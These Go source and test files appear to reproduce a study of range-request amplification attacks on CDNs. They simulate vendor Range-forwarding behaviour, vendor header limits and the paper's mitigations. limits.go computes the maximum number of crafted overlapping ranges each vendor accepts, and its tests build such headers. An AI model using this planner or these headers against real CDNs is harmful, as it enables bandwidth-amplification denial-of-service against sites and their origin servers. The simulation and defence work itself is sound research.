	full := httpwire.NewResponse(200)
	full.SetBody([]byte("abcdef"))
	obj, err := ObjectFromResponse(full, false)
	if err != nil || !obj.Complete() || obj.CompleteSize != 6 {
		t.Errorf("full: %+v err=%v", obj, err)
	}

	part := httpwire.NewResponse(206)
	part.Headers.Add("Content-Range", "bytes 2-3/6")
	part.SetBody([]byte("cd"))
	obj, err = ObjectFromResponse(part, false)
	if err != nil || obj.Offset != 2 || obj.CompleteSize != 6 || obj.Complete() {
		t.Errorf("partial: %+v err=%v", obj, err)
	}
	w := ranges.Resolved{Offset: 2, Length: 2}
	if !obj.Covers(w) || string(obj.Slice(w)) != "cd" {
		t.Error("Covers/Slice on partial object")
	}
	if obj.Covers(ranges.Resolved{Offset: 0, Length: 1}) {
		t.Error("Covers claims bytes before the window")
	}

	for _, bad := range []*httpwire.Response{
		httpwire.NewResponse(206), // no Content-Range
		httpwire.NewResponse(404),
	} {
		if _, err := ObjectFromResponse(bad, false); err == nil {
			t.Errorf("status %d: no error", bad.StatusCode)
		}
	}
}

func TestObjectTruncated(t *testing.T) {
	resp := httpwire.NewResponse(200)
	resp.Headers.Add("Content-Length", "100")
	resp.Body = []byte("short")
	obj, err := ObjectFromResponse(resp, true)
	if err != nil {
		t.Fatal(err)
	}
	if obj.Complete() || obj.CompleteSize != 100 || !obj.Truncated {
		t.Errorf("truncated object: %+v", obj)
	}
}

func TestParseContentRangeVariants(t *testing.T) {
	off, size, err := parseContentRange("bytes 5-9/100")
	if err != nil || off != 5 || size != 100 {
		t.Errorf("got %d,%d,%v", off, size, err)
	}
	off, size, err = parseContentRange("bytes 5-9/*")
	if err != nil || off != 5 || size != -1 {
		t.Errorf("star: %d,%d,%v", off, size, err)
	}
	for _, bad := range []string{"", "5-9/100", "bytes x-9/100", "bytes 5-9", "bytes 5-9/x"} {
		if _, _, err := parseContentRange(bad); err == nil {
			t.Errorf("parseContentRange(%q): no error", bad)
		}
	}
}

func TestEdgeState(t *testing.T) {
	s := NewEdgeState()
	if s.SizeHint("/x") != 0 {
		t.Error("fresh state has a size")
	}
	s.LearnSize("/x", 100)
	s.LearnSize("/x", 0) // ignored
	if s.SizeHint("/x") != 100 {
		t.Error("LearnSize lost the value")
	}
	if s.BumpSeen("a") != 1 || s.BumpSeen("a") != 2 || s.BumpSeen("b") != 1 {
		t.Error("BumpSeen counting wrong")
	}
	var nilState *EdgeState
	nilState.LearnSize("/x", 5)
	if nilState.SizeHint("/x") != 0 || nilState.BumpSeen("a") != 1 {
		t.Error("nil state not safe")
	}
}

func TestAllProfilesComplete(t *testing.T) {
	all := All()
	if len(all) != 13 {
		t.Fatalf("All() returned %d profiles", len(all))
	}
	seen := make(map[string]bool)
	for _, p := range all {
		if p.Name == "" || p.DisplayName == "" || p.Behaviour == nil || p.EdgeHeaders == nil {
			t.Errorf("profile %q incomplete", p.Name)
		}
		if p.MultiRangeReply == 0 {
			t.Errorf("profile %q missing reply policy", p.Name)
		}
		if p.MultipartBoundary == "" {
			t.Errorf("profile %q missing boundary", p.Name)
		}
		if seen[p.Name] {
			t.Errorf("duplicate profile %q", p.Name)
		}
		seen[p.Name] = true
		if got, ok := ByName(p.Name); !ok || got.Name != p.Name {
			t.Errorf("ByName(%q) failed", p.Name)
		}
	}
	if _, ok := ByName("nonexistent"); ok {
		t.Error("ByName(nonexistent) succeeded")
	}
	if len(Names()) != 13 {
		t.Error("Names() length")
	}
}

func TestEdgeHeadersDeterministicAndSized(t *testing.T) {
	for _, p := range All() {
		a := p.EdgeHeaders()
		b := p.EdgeHeaders()
		if a.WireSize() != b.WireSize() {
			t.Errorf("%s: header size not deterministic", p.Name)
		}
		if a.WireSize() < 100 {
			t.Errorf("%s: suspiciously small header block (%d)", p.Name, a.WireSize())
		}
	}
}

func TestTableIIIReplyPolicies(t *testing.T) {
	want := map[string]ReplyPolicy{
		"akamai": ReplyServeAll, "azure": ReplyServeAll, "stackpath": ReplyServeAll,
	}
	for _, p := range All() {
		if wantPolicy, vulnerable := want[p.Name]; vulnerable {
			if p.MultiRangeReply != wantPolicy {
				t.Errorf("%s reply = %v", p.Name, p.MultiRangeReply)
			}
		} else if p.MultiRangeReply == ReplyServeAll {
			t.Errorf("%s must not serve overlapping multiparts", p.Name)
		}
	}
	if azure, _ := ByName("azure"); azure.MaxPartsThenIgnore != 64 {
		t.Error("Azure must cap parts at 64")
	}
}

func TestProfileCloneIsolatesOptions(t *testing.T) {
	p, _ := ByName("cloudflare")
	c := p.Clone()
	c.Options.CloudflareBypass = true
	if p.Options.CloudflareBypass {
		t.Error("Clone shares Options")
	}
}

func TestForwardPolicyString(t *testing.T) {
	if Laziness.String() != "Laziness" || Deletion.String() != "Deletion" ||
		Expansion.String() != "Expansion" || ForwardPolicy(0).String() != "Unknown" {
		t.Error("ForwardPolicy strings wrong")
	}
}

func TestTraceIDDeterministic(t *testing.T) {
	if traceID(16) != traceID(16) || len(traceID(33)) != 33 {
		t.Error("traceID broken")
	}
	if strings.ContainsAny(traceID(64), " \r\n") {
		t.Error("traceID contains whitespace")
	}
}

func TestMitigateSlicingCoversAndBounds(t *testing.T) {
	p := MitigateSlicing(Cloudflare(), 1<<20)
	up := newFakeUpstream(20<<20, true)
	ret := runBehaviour(t, p, up, "bytes=0-0", 0)
	if len(up.calls) != 1 || up.calls[0].RangeHeader != "bytes=0-1048575" {
		t.Fatalf("calls = %+v, want one 1MiB slice fetch", up.calls)
	}
	if ret.Object == nil || int64(len(ret.Object.Body)) != 1<<20 {
		t.Fatalf("object = %+v", ret.Object)
	}
	// A range crossing a slice boundary fetches both covering slices.
	up2 := newFakeUpstream(20<<20, true)
	runBehaviour(t, p, up2, "bytes=1048570-1048580", 0)
	if up2.calls[0].RangeHeader != "bytes=0-2097151" {
		t.Errorf("crossing fetch = %q", up2.calls[0].RangeHeader)
	}
}

func TestMitigateSlicingSuffix(t *testing.T) {
	p := MitigateSlicing(Cloudflare(), 1<<20)
	// Unknown size: lazy.
	up := newFakeUpstream(8<<20, true)
	runBehaviour(t, p, up, "bytes=-1", 0)
	if up.calls[0].RangeHeader != "bytes=-1" {
		t.Errorf("suffix without size hint: %+v", up.calls)
	}
	// Known size: covering slice of the tail.
	up2 := newFakeUpstream(8<<20, true)
	runBehaviour(t, p, up2, "bytes=-1", 8<<20)
	if up2.calls[0].RangeHeader != "bytes=7340032-8388607" {
		t.Errorf("suffix with size hint: %+v", up2.calls)
	}
}

func TestSliceCover(t *testing.T) {
	tests := []struct {
		first, last, size, wantLo, wantHi int64
	}{
		{0, 0, 100, 0, 99},
		{99, 100, 100, 0, 199},
		{150, 150, 100, 100, 199},
		{0, 299, 100, 0, 299},
	}
	for _, tt := range tests {
		lo, hi := sliceCover(tt.first, tt.last, tt.size)
		if lo != tt.wantLo || hi != tt.wantHi {
			t.Errorf("sliceCover(%d,%d,%d) = %d,%d want %d,%d",
				tt.first, tt.last, tt.size, lo, hi, tt.wantLo, tt.wantHi)
		}
	}
}
