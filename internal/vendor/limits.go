package vendor

import (
	"fmt"
	"math"

	"repro/internal/httpwire"
)

// CloudflareHeaderBudget is the right-hand side of Cloudflare's
// empirical constraint RL + 2·HHL + RHL <= 32411 bytes (§V-C), where RL
// is the request line, HHL the Host header field line and RHL the Range
// header field line.
const CloudflareHeaderBudget = 32411

// HeaderLimits describes one vendor's inbound request-header limits.
// Zero fields mean "no limit of that kind".
type HeaderLimits struct {
	MaxTotalHeaderBytes  int  // sum of all field lines (Akamai 32 KB, StackPath ~81 KB)
	MaxSingleHeaderBytes int  // one field line (CDN77/CDNsun 16 KB)
	CloudflareFormula    bool // RL + 2·HHL + RHL <= CloudflareHeaderBudget
}

// LimitError reports which limit a request violated.
type LimitError struct {
	Kind   string
	Actual int
	Limit  int
}

func (e *LimitError) Error() string {
	return fmt.Sprintf("vendor: request exceeds %s limit: %d > %d", e.Kind, e.Actual, e.Limit)
}

func fieldLineSize(h httpwire.Header) int {
	return len(h.Name) + 2 + len(h.Value) + 2
}

// Check validates a request against the limits.
func (l HeaderLimits) Check(req *httpwire.Request) error {
	if l.MaxSingleHeaderBytes > 0 {
		for _, h := range req.Headers {
			if n := fieldLineSize(h); n > l.MaxSingleHeaderBytes {
				return &LimitError{Kind: "single-header", Actual: n, Limit: l.MaxSingleHeaderBytes}
			}
		}
	}
	if l.MaxTotalHeaderBytes > 0 {
		if n := req.Headers.WireSize(); n > l.MaxTotalHeaderBytes {
			return &LimitError{Kind: "total-header", Actual: n, Limit: l.MaxTotalHeaderBytes}
		}
	}
	if l.CloudflareFormula {
		rl := req.StartLineSize()
		hhl, rhl := 0, 0
		for _, h := range req.Headers {
			switch {
			case equalFold(h.Name, "Host"):
				hhl = fieldLineSize(h)
			case equalFold(h.Name, "Range"):
				rhl = fieldLineSize(h)
			}
		}
		if n := rl + 2*hhl + rhl; n > CloudflareHeaderBudget {
			return &LimitError{Kind: "cloudflare-formula", Actual: n, Limit: CloudflareHeaderBudget}
		}
	}
	return nil
}

// equalFold is ASCII case-insensitive equality for header names.
func equalFold(a, b string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := 0; i < len(a); i++ {
		ca, cb := a[i], b[i]
		if 'A' <= ca && ca <= 'Z' {
			ca += 'a' - 'A'
		}
		if 'A' <= cb && cb <= 'Z' {
			cb += 'a' - 'A'
		}
		if ca != cb {
			return false
		}
	}
	return true
}

// rangeFieldLine returns the Range field-line size for a crafted
// overlapping set "bytes=<firstToken>,0-,0-,…" with n ranges total.
func rangeFieldLine(firstToken string, n int) int {
	value := len("bytes=") + len(firstToken) + 3*(n-1)
	return len("Range: ") + value + 2
}

// MaxOverlappingRanges returns the largest n for which a request shaped
// like proto — with its Range header replaced by
// "bytes=<firstToken>,0-,0-,…" of n ranges — passes these limits.
// It returns math.MaxInt32 when no header limit applies.
func (l HeaderLimits) MaxOverlappingRanges(proto *httpwire.Request, firstToken string) int {
	best := math.MaxInt32
	// fieldLine(n) = len("Range: ") + len("bytes=") + len(firstToken)
	//              + 3(n-1) + len(CRLF) = 12 + len(firstToken) + 3n,
	// so fieldLine(n) <= budget  =>  n <= (budget - 12 - len(firstToken))/3.
	solve := func(budget int) int {
		n := (budget - 12 - len(firstToken)) / 3
		if n < 0 {
			return 0
		}
		return n
	}
	if l.MaxSingleHeaderBytes > 0 {
		if n := solve(l.MaxSingleHeaderBytes); n < best {
			best = n
		}
	}
	if l.MaxTotalHeaderBytes > 0 {
		others := 0
		for _, h := range proto.Headers {
			if !equalFold(h.Name, "Range") {
				others += fieldLineSize(h)
			}
		}
		if n := solve(l.MaxTotalHeaderBytes - others); n < best {
			best = n
		}
	}
	if l.CloudflareFormula {
		rl := proto.StartLineSize()
		hhl := 0
		for _, h := range proto.Headers {
			if equalFold(h.Name, "Host") {
				hhl = fieldLineSize(h)
			}
		}
		if n := solve(CloudflareHeaderBudget - rl - 2*hhl); n < best {
			best = n
		}
	}
	return best
}
