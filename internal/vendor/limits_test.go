package vendor

import (
	"errors"
	"math"
	"strings"
	"testing"

	"repro/internal/httpwire"
)

func TestHeaderLimitsCheck(t *testing.T) {
	req := httpwire.NewRequest("GET", "/f", "h.example")
	req.Headers.Add("Range", "bytes="+strings.Repeat("0-,", 100)+"0-")

	if err := (HeaderLimits{}).Check(req); err != nil {
		t.Errorf("no limits: %v", err)
	}
	if err := (HeaderLimits{MaxTotalHeaderBytes: 1 << 20}).Check(req); err != nil {
		t.Errorf("generous total: %v", err)
	}
	err := HeaderLimits{MaxTotalHeaderBytes: 64}.Check(req)
	var le *LimitError
	if !errors.As(err, &le) || le.Kind != "total-header" {
		t.Errorf("tight total: %v", err)
	}
	err = HeaderLimits{MaxSingleHeaderBytes: 64}.Check(req)
	if !errors.As(err, &le) || le.Kind != "single-header" {
		t.Errorf("tight single: %v", err)
	}
}

func TestCloudflareFormulaCheck(t *testing.T) {
	req := httpwire.NewRequest("GET", "/f", "h.example")
	lim := HeaderLimits{CloudflareFormula: true}
	if err := lim.Check(req); err != nil {
		t.Errorf("small request: %v", err)
	}
	// RL + 2*HHL is fixed; grow the Range header until the formula trips.
	req.Headers.Add("Range", "bytes=0-,"+strings.Repeat("0-,", 11000)+"0-")
	err := lim.Check(req)
	var le *LimitError
	if !errors.As(err, &le) || le.Kind != "cloudflare-formula" {
		t.Errorf("huge range: %v", err)
	}
}

// TestMaxOverlappingRangesPaperValues checks the planner against the
// paper's §V-C max-n derivations. CDN77 (16 KB single header, first
// token "-1024") gives 5455; CDNsun (first token "1-") gives 5456 —
// both exactly as in Table V.
func TestMaxOverlappingRangesPaperValues(t *testing.T) {
	proto := httpwire.NewRequest("GET", "/1KB.bin", "fcdn.example")
	cdn77, _ := ByName("cdn77")
	if n := cdn77.Limits.MaxOverlappingRanges(proto, "-1024"); n != 5455 {
		t.Errorf("CDN77 max n = %d, want 5455", n)
	}
	cdnsun, _ := ByName("cdnsun")
	if n := cdnsun.Limits.MaxOverlappingRanges(proto, "1-"); n != 5456 {
		t.Errorf("CDNsun max n = %d, want 5456", n)
	}
}

func TestMaxOverlappingRangesConsistentWithCheck(t *testing.T) {
	// For every limit kind, a request built with the planner's n must
	// pass Check and one more range must fail it.
	limits := []HeaderLimits{
		{MaxTotalHeaderBytes: 32 << 10},
		{MaxSingleHeaderBytes: 16 << 10},
		{CloudflareFormula: true},
	}
	build := func(n int) *httpwire.Request {
		req := httpwire.NewRequest("GET", "/1KB.bin", "fcdn.example")
		req.Headers.Add("User-Agent", "rangeamp/1.0")
		specs := make([]string, n)
		specs[0] = "0-"
		for i := 1; i < n; i++ {
			specs[i] = "0-"
		}
		req.Headers.Add("Range", "bytes="+strings.Join(specs, ","))
		return req
	}
	for _, lim := range limits {
		proto := build(1)
		n := lim.MaxOverlappingRanges(proto, "0-")
		if n <= 0 || n == math.MaxInt32 {
			t.Fatalf("%+v: n = %d", lim, n)
		}
		if err := lim.Check(build(n)); err != nil {
			t.Errorf("%+v: request with planner n=%d rejected: %v", lim, n, err)
		}
		if err := lim.Check(build(n + 1)); err == nil {
			t.Errorf("%+v: n+1 accepted", lim)
		}
	}
}

func TestMaxOverlappingRangesUnlimited(t *testing.T) {
	proto := httpwire.NewRequest("GET", "/f", "h")
	if n := (HeaderLimits{}).MaxOverlappingRanges(proto, "0-"); n != math.MaxInt32 {
		t.Errorf("unlimited n = %d", n)
	}
}

func TestMaxOverlappingRangesTinyBudget(t *testing.T) {
	proto := httpwire.NewRequest("GET", "/f", "h")
	if n := (HeaderLimits{MaxSingleHeaderBytes: 5}).MaxOverlappingRanges(proto, "0-"); n != 0 {
		t.Errorf("tiny budget n = %d", n)
	}
}

func TestEqualFold(t *testing.T) {
	tests := []struct {
		a, b string
		want bool
	}{
		{"Host", "host", true},
		{"RANGE", "range", true},
		{"Host", "Hosts", false},
		{"a", "b", false},
	}
	for _, tt := range tests {
		if got := equalFold(tt.a, tt.b); got != tt.want {
			t.Errorf("equalFold(%q,%q) = %v", tt.a, tt.b, got)
		}
	}
}
