package vendor

import (
	"fmt"

	"repro/internal/httpwire"
	"repro/internal/ranges"
)

// Shared behaviour building blocks. Each of the 13 profiles composes
// these; the compositions themselves live in profiles.go.

// fetchObject issues one upstream request and converts the response to
// an Object. rangeHeader=="" is the Deletion policy.
func fetchObject(up Upstream, rangeHeader string, maxBody int64) (*Object, error) {
	resp, truncated, err := up.Fetch(rangeHeader, maxBody)
	if err != nil {
		return nil, fmt.Errorf("upstream fetch: %w", err)
	}
	obj, err := ObjectFromResponse(resp, truncated)
	if err != nil {
		return nil, err
	}
	return obj, nil
}

// deleteAndFetch is the plain Deletion policy: strip the Range header
// and retrieve the entire resource.
func deleteAndFetch(up Upstream, rc *RequestContext) (*Retrieval, error) {
	obj, err := fetchObject(up, "", 0)
	if err != nil {
		return nil, err
	}
	learn(rc, obj)
	return &Retrieval{Object: obj}, nil
}

// lazyForward is the Laziness policy: forward the Range header
// unchanged and relay whatever comes back.
func lazyForward(up Upstream, rc *RequestContext) (*Retrieval, error) {
	resp, _, err := up.Fetch(rc.Raw, 0)
	if err != nil {
		return nil, fmt.Errorf("upstream fetch: %w", err)
	}
	learnFromResponse(rc, resp)
	return &Retrieval{Relay: resp}, nil
}

// expandAndFetch is the Expansion policy with an explicit new range.
func expandAndFetch(up Upstream, rc *RequestContext, first, last int64) (*Retrieval, error) {
	obj, err := fetchObject(up, ranges.Set{ranges.NewRange(first, last)}.HeaderValue(), 0)
	if err != nil {
		return nil, err
	}
	learn(rc, obj)
	return &Retrieval{Object: obj}, nil
}

// learn records the complete size the object reveals.
func learn(rc *RequestContext, obj *Object) {
	if obj.CompleteSize > 0 {
		rc.State.LearnSize(rc.Path, obj.CompleteSize)
	}
}

// learnFromResponse records size information visible in a relayed
// response (Content-Range total or a 200's Content-Length).
func learnFromResponse(rc *RequestContext, resp *httpwire.Response) {
	switch resp.StatusCode {
	case httpwire.StatusOK:
		rc.State.LearnSize(rc.Path, int64(len(resp.Body)))
	case httpwire.StatusPartialContent:
		if cr, ok := resp.Headers.Get("Content-Range"); ok {
			if _, complete, err := parseContentRange(cr); err == nil && complete > 0 {
				rc.State.LearnSize(rc.Path, complete)
			}
		}
	}
}

// Range-shape predicates used by the per-vendor conditions of Table I.

// isSingle reports a one-element set of the "first-last" (or "first-")
// shape.
func isSingle(set ranges.Set) bool {
	return len(set) == 1 && !set[0].IsSuffix()
}

// isSuffix reports a one-element suffix set ("-N").
func isSuffix(set ranges.Set) bool {
	return len(set) == 1 && set[0].IsSuffix()
}

// isMulti reports a multi-range set.
func isMulti(set ranges.Set) bool { return len(set) > 1 }

// noRange reports a request without an interpretable Range header;
// every behaviour treats those as plain full fetches.
func noRange(rc *RequestContext) bool { return !rc.HasRange || rc.Set == nil }

// simpleDeletion: unconditional Deletion (Akamai, Fastly, G-Core Labs).
func simpleDeletion(up Upstream, rc *RequestContext, _ *Options) (*Retrieval, error) {
	return deleteAndFetch(up, rc)
}

// alibabaBehaviour: Table I lists only "bytes=-suffix" as the shape
// Alibaba strips, conditional on the vendor Range option being set to
// disable. Other single shapes are forwarded lazily. Multi-range
// requests are stripped and answered coalesced (Alibaba appears in
// neither Table II nor Table III, so it can neither forward an
// overlapping set unchanged nor serve one back).
func alibabaBehaviour(up Upstream, rc *RequestContext, opts *Options) (*Retrieval, error) {
	if noRange(rc) {
		return deleteAndFetch(up, rc)
	}
	switch {
	case isSuffix(rc.Set):
		if opts.RangeOptionVulnerable {
			return deleteAndFetch(up, rc)
		}
		return lazyForward(up, rc)
	case isMulti(rc.Set):
		return deleteAndFetch(up, rc)
	default:
		return lazyForward(up, rc)
	}
}

// tencentBehaviour: Deletion for "first-last" when the Range option is
// disable (Table I); Laziness for suffix shapes; strip-and-coalesce for
// multi-range requests (absent from Tables II/III).
func tencentBehaviour(up Upstream, rc *RequestContext, opts *Options) (*Retrieval, error) {
	if noRange(rc) {
		return deleteAndFetch(up, rc)
	}
	switch {
	case isSingle(rc.Set):
		if opts.RangeOptionVulnerable {
			return deleteAndFetch(up, rc)
		}
		return lazyForward(up, rc)
	case isMulti(rc.Set):
		return deleteAndFetch(up, rc)
	default:
		return lazyForward(up, rc)
	}
}

// cloudflareBehaviour: with the default Cacheable rule every shape is
// stripped (Table I's conditional Deletion); with a Bypass rule the
// edge becomes a pure lazy proxy, which is the Table II FCDN position.
func cloudflareBehaviour(up Upstream, rc *RequestContext, opts *Options) (*Retrieval, error) {
	if opts.CloudflareBypass {
		if noRange(rc) {
			return lazyForward(up, rc)
		}
		return lazyForward(up, rc)
	}
	return deleteAndFetch(up, rc)
}

// azureBehaviour implements the §V-A Azure case: Deletion with an 8 MiB
// first-connection cutoff, plus an Expansion retry into the fixed
// 8 MiB..16 MiB-1 window when the requested range lies inside it.
func azureBehaviour(up Upstream, rc *RequestContext, _ *Options) (*Retrieval, error) {
	if noRange(rc) {
		return deleteAndFetch(up, rc)
	}
	if isSuffix(rc.Set) {
		// Azure's Table I entries cover first-last shapes only.
		return lazyForward(up, rc)
	}
	if isMulti(rc.Set) {
		// Deletion; the reply side enforces the n<=64 rule.
		return deleteAndFetch(up, rc)
	}
	// Single first-last: Deletion, but close the first connection once
	// 8 MiB of payload has arrived.
	obj, err := fetchObject(up, "", ranges.AzureCutoff)
	if err != nil {
		return nil, err
	}
	learn(rc, obj)
	if !obj.Truncated {
		return &Retrieval{Object: obj}, nil
	}
	// The resource exceeds 8 MiB. If the client's range lies in the
	// Azure window, issue the second, expanded back-to-origin request.
	spec := rc.Set[0]
	last := spec.Last
	if last == ranges.Unbounded {
		last = spec.First
	}
	if ranges.AzureWindow(spec.First, last) {
		return expandAndFetch(up, rc, ranges.AzureWindowFirst, ranges.AzureWindowLast)
	}
	// Otherwise serve from the truncated prefix (covers first < 8 MiB).
	return &Retrieval{Object: obj}, nil
}

// cdn77Behaviour: Deletion for "first-last" with first < 1024, Laziness
// otherwise — including all multi-range shapes (the Table II entry).
func cdn77Behaviour(up Upstream, rc *RequestContext, _ *Options) (*Retrieval, error) {
	if noRange(rc) {
		return deleteAndFetch(up, rc)
	}
	if isSingle(rc.Set) && rc.Set[0].First < 1024 {
		return deleteAndFetch(up, rc)
	}
	return lazyForward(up, rc)
}

// cdnsunBehaviour: Deletion for "0-last" single ranges and for
// multi-range sets led by a 0-anchored range; Laziness otherwise
// (Table II's start1 >= 1 condition).
func cdnsunBehaviour(up Upstream, rc *RequestContext, _ *Options) (*Retrieval, error) {
	if noRange(rc) {
		return deleteAndFetch(up, rc)
	}
	if isSingle(rc.Set) && rc.Set[0].First == 0 {
		return deleteAndFetch(up, rc)
	}
	if isMulti(rc.Set) && !rc.Set[0].IsSuffix() && rc.Set[0].First == 0 {
		return deleteAndFetch(up, rc)
	}
	return lazyForward(up, rc)
}

// cloudFrontBehaviour implements the complete Expansion policy of §V-A(3).
func cloudFrontBehaviour(up Upstream, rc *RequestContext, _ *Options) (*Retrieval, error) {
	if noRange(rc) {
		return deleteAndFetch(up, rc)
	}
	switch {
	case isSuffix(rc.Set):
		return lazyForward(up, rc)
	case isSingle(rc.Set):
		spec := rc.Set[0]
		if spec.Last == ranges.Unbounded {
			return deleteAndFetch(up, rc)
		}
		first, last := ranges.ExpandCloudFront(spec.First, spec.Last)
		return expandAndFetch(up, rc, first, last)
	default:
		if first, last, ok := ranges.ExpandCloudFrontSet(rc.Set); ok {
			return expandAndFetch(up, rc, first, last)
		}
		return deleteAndFetch(up, rc)
	}
}

// huaweiBehaviour: Deletion, with Table I's F-conditional split — the
// vulnerable shape is "-suffix" for resources under 10 MB and
// "first-last" for resources of 10 MB and above. Unknown sizes default
// to Deletion (the position an attacker encounters on a cold edge).
// The table's "None & None" dual back-to-origin entry is approximated
// by a single full fetch: the paper's own Table IV factors imply the
// measured origin traffic equals one copy of the resource.
func huaweiBehaviour(up Upstream, rc *RequestContext, opts *Options) (*Retrieval, error) {
	const tenMB = 10 * 1000 * 1000
	if noRange(rc) {
		return deleteAndFetch(up, rc)
	}
	if !opts.RangeOptionVulnerable {
		return lazyForward(up, rc)
	}
	size := rc.SizeHint
	switch {
	case isSuffix(rc.Set):
		if size >= tenMB {
			return lazyForward(up, rc)
		}
		return deleteAndFetch(up, rc)
	case isSingle(rc.Set):
		if size > 0 && size < tenMB {
			return lazyForward(up, rc)
		}
		return deleteAndFetch(up, rc)
	default:
		return deleteAndFetch(up, rc)
	}
}

// keyCDNBehaviour: Laziness on the first sighting of a request, then
// Deletion when the same request (key + range) arrives again (§V-A(4)).
func keyCDNBehaviour(up Upstream, rc *RequestContext, _ *Options) (*Retrieval, error) {
	if noRange(rc) || isMulti(rc.Set) {
		// Multi-range sets are stripped and coalesced — KeyCDN appears in
		// neither Table II nor Table III.
		return deleteAndFetch(up, rc)
	}
	if isSuffix(rc.Set) {
		return lazyForward(up, rc)
	}
	if rc.State.BumpSeen(rc.Key+"\x00"+rc.Raw) == 1 {
		return lazyForward(up, rc)
	}
	return deleteAndFetch(up, rc)
}

// stackPathBehaviour: Laziness first; a 206 answer triggers an
// immediate re-forward without the Range header (§V-A(5)). The "[& None]"
// in Tables I and II is this second request.
func stackPathBehaviour(up Upstream, rc *RequestContext, _ *Options) (*Retrieval, error) {
	if !rc.HasRange {
		return deleteAndFetch(up, rc)
	}
	resp, _, err := up.Fetch(rc.Raw, 0)
	if err != nil {
		return nil, fmt.Errorf("upstream fetch: %w", err)
	}
	learnFromResponse(rc, resp)
	if resp.StatusCode != httpwire.StatusPartialContent {
		// A 200 already carries the whole object; multipart or error
		// responses are relayed as-is below.
		if obj, err := ObjectFromResponse(resp, false); err == nil {
			return &Retrieval{Object: obj}, nil
		}
		return &Retrieval{Relay: resp}, nil
	}
	if ct, ok := resp.Headers.Get("Content-Type"); ok {
		if _, multi := parseMultipartBoundary(ct); multi {
			// A multipart 206 from a cascaded BCDN: StackPath still issues
			// its range-stripped second request (the "[& None]" of Table II)
			// but relays the multipart response to the client.
			if _, _, err := up.Fetch("", 0); err != nil {
				return nil, fmt.Errorf("upstream re-fetch: %w", err)
			}
			return &Retrieval{Relay: resp}, nil
		}
	}
	return deleteAndFetch(up, rc)
}

// parseMultipartBoundary reports whether a Content-Type announces
// multipart/byteranges (local copy to avoid importing internal/multipart
// here; the engine uses the full parser).
func parseMultipartBoundary(ct string) (string, bool) {
	const prefix = "multipart/byteranges"
	if len(ct) < len(prefix) {
		return "", false
	}
	for i := 0; i < len(prefix); i++ {
		c := ct[i]
		if 'A' <= c && c <= 'Z' {
			c += 'a' - 'A'
		}
		if c != prefix[i] {
			return "", false
		}
	}
	return "", true
}
