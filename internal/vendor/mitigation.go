package vendor

import "repro/internal/ranges"

// Mitigations of §VI-C, applied as profile transforms so the ablation
// benches can compare each vendor with and without its fix.

// MitigateLaziness returns a copy of p whose edge forwards every Range
// header unchanged — the complete SBR defence ("CDNs can adopt the
// Laziness policy to completely defend against the SBR attack"), at the
// cost of the caching benefit.
func MitigateLaziness(p *Profile) *Profile {
	c := p.Clone()
	c.Name = p.Name + "+laziness"
	c.Behaviour = func(up Upstream, rc *RequestContext, _ *Options) (*Retrieval, error) {
		if rc.HasRange {
			return lazyForward(up, rc)
		}
		return deleteAndFetch(up, rc)
	}
	c.CacheByDefault = false
	return c
}

// MitigateBoundedExpansion returns a copy of p whose edge expands a
// range request by at most slack bytes past the requested span — the
// paper's "increase the byte range by 8KB" compromise that keeps range
// caching useful while bounding the cdn-origin amplification.
func MitigateBoundedExpansion(p *Profile, slack int64) *Profile {
	c := p.Clone()
	c.Name = p.Name + "+bounded"
	c.Behaviour = func(up Upstream, rc *RequestContext, _ *Options) (*Retrieval, error) {
		if noRange(rc) {
			return deleteAndFetch(up, rc)
		}
		if isSuffix(rc.Set) {
			// Expand the suffix length itself by the slack.
			obj, err := fetchObject(up, ranges.Set{ranges.NewSuffix(rc.Set[0].SuffixLen + slack)}.HeaderValue(), 0)
			if err != nil {
				return nil, err
			}
			learn(rc, obj)
			return &Retrieval{Object: obj}, nil
		}
		span, ok := ranges.Span(specsUpperBound(rc.Set))
		if !ok {
			return lazyForward(up, rc)
		}
		return expandAndFetch(up, rc, span.Offset, span.End()+slack)
	}
	return c
}

// specsUpperBound converts specs to windows without knowing the
// resource size, treating open-ended ranges as single-byte anchors
// (the origin clamps the expanded request anyway).
func specsUpperBound(set ranges.Set) []ranges.Resolved {
	out := make([]ranges.Resolved, 0, len(set))
	for _, s := range set {
		if s.IsSuffix() {
			continue
		}
		last := s.Last
		if last == ranges.Unbounded {
			last = s.First
		}
		out = append(out, ranges.Resolved{Offset: s.First, Length: last - s.First + 1})
	}
	return out
}

// MitigateRejectOverlap returns a copy of p that refuses multi-range
// requests with overlapping ranges (RFC 7233 §6.1's "reject" option,
// the fix CDN77 deployed per §VII-A) — the OBR defence.
func MitigateRejectOverlap(p *Profile) *Profile {
	c := p.Clone()
	c.Name = p.Name + "+reject"
	c.MultiRangeReply = ReplyReject
	return c
}

// MitigateCoalesce returns a copy of p that coalesces overlapping
// ranges before replying (RFC 7233 §6.1's "coalesce" option).
func MitigateCoalesce(p *Profile) *Profile {
	c := p.Clone()
	c.Name = p.Name + "+coalesce"
	c.MultiRangeReply = ReplyCoalesce
	c.MaxPartsThenIgnore = 0
	return c
}

// MitigateSlicing returns a copy of p that fetches range requests as
// fixed-size aligned slices — the fix CDN77 described ("try
// implementing slicing of range requests", §VII-A) and the mechanism
// behind CloudFront-style segment caching. The back-to-origin traffic
// for any client range is bounded by the covering slices, so the SBR
// factor is capped at roughly sliceSize/clientResponse no matter how
// large the target resource is.
func MitigateSlicing(p *Profile, sliceSize int64) *Profile {
	if sliceSize <= 0 {
		sliceSize = 1 << 20
	}
	c := p.Clone()
	c.Name = p.Name + "+slice"
	c.Behaviour = func(up Upstream, rc *RequestContext, _ *Options) (*Retrieval, error) {
		if noRange(rc) {
			return deleteAndFetch(up, rc)
		}
		if isSuffix(rc.Set) {
			// Without the total size the covering slice is unknown; the
			// suffix is forwarded as-is (Laziness), like G-Core's slice
			// option behaves.
			if rc.SizeHint <= 0 {
				return lazyForward(up, rc)
			}
			w, ok := rc.Set[0].Resolve(rc.SizeHint)
			if !ok {
				return lazyForward(up, rc)
			}
			first, last := sliceCover(w.Offset, w.End(), sliceSize)
			return expandAndFetch(up, rc, first, last)
		}
		span, ok := ranges.Span(specsUpperBound(rc.Set))
		if !ok {
			return lazyForward(up, rc)
		}
		first, last := sliceCover(span.Offset, span.End(), sliceSize)
		return expandAndFetch(up, rc, first, last)
	}
	return c
}

// sliceCover returns the smallest slice-aligned window covering
// [first,last].
func sliceCover(first, last, sliceSize int64) (int64, int64) {
	lo := first / sliceSize * sliceSize
	hi := (last/sliceSize+1)*sliceSize - 1
	return lo, hi
}
